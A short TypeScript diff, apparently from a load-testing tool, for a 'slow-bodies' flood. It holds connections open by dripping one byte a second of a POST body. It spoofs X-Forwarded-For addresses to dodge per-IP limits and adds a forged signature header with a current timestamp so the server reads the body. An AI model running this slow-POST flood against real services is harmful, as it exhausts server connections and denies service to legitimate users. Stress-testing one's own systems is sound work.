@@ -33,18 +33,20 @@ function addressOf(number: number): string {
 }
 
 /** Keeps connections open that announce a body and send one byte a second of it. A closed one is replaced. */
-function holdBodies({ connections, host, anAddress }: Extract<ClientFlood, { kind: 'slow-bodies' }>): void {
+function holdBodies({ connections, host, anAddress, path, length }: Extract<ClientFlood, { kind: 'slow-bodies' }>): void {
   const { port, hostname } = new URL(url);
   const open = (number: number) => {
     if (stopping.signal.aborted) return;
     const socket = connect(Number(port), hostname, () => {
       const head = [
-        'POST /api/front/user/login HTTP/1.1',
+        `POST ${path} HTTP/1.1`,
         `Host: ${host}`,
         `Origin: http://${host}`,
         `X-Forwarded-For: ${addressOf(Math.floor(number / anAddress))}`,
         'Content-Type: application/json',
-        'Content-Length: 500',
+        `Content-Length: ${length}`,
+        // Only a body with a signature of now is read.
+        `portada-signature: t=${Math.floor(Date.now() / 1000)},v1=${'0'.repeat(64)}`,
       ];
       socket.write(`${head.join('\r\n')}\r\n\r\n{`);
       const drip = setInterval(() => socket.write(' '), 1000);
